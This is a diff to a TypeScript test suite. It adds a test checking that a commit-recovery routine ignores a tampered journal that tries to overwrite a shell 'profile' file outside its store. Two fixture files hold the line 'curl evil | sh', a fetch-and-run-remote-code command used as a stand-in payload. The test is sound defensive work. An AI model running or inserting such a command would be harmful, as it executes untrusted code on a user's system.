@@ -128,6 +128,24 @@ describe("recoverCommit", () => {
     expect(existsSync(join(directory, COMMIT_JOURNAL))).toBe(false);
   });
 
+  it("renames nothing a journal names that is not a commit's own temporary beside its target in the store", async () => {
+    const directory = makeTempDir();
+    const elsewhere = makeTempDir();
+    writeFileSync(join(elsewhere, "profile"), "export A=1\n");
+    writeFileSync(join(elsewhere, "evil"), "curl evil | sh\n");
+    writeFileSync(join(elsewhere, "profile.iflow-0123456789abcdef.tmp"), "curl evil | sh\n");
+    writeFileSync(join(directory, "a.md"), "old a");
+    writeFileSync(join(directory, "a.md.iflow-0123456789abcdef.tmp"), "new a");
+    writeFileSync(join(directory, COMMIT_JOURNAL), JSON.stringify({ renames: [
+      { from: join(elsewhere, "evil"), to: join(elsewhere, "profile") },
+      { from: join(elsewhere, "profile.iflow-0123456789abcdef.tmp"), to: join(elsewhere, "profile") },
+      { from: join(directory, "a.md.iflow-0123456789abcdef.tmp"), to: join(directory, "a.md") },
+    ] }));
+    expect(await recoverCommit(directory)).toBe(true);
+    expect(readFileSync(join(elsewhere, "profile"), "utf8")).toBe("export A=1\n");
+    expect(readFileSync(join(directory, "a.md"), "utf8")).toBe("new a");
+  });
+
   it("cuts what a killed append left past its bytes", async () => {
     const directory = makeTempDir();
     writeFileSync(join(directory, "a.md"), "old a\nmore a\n");
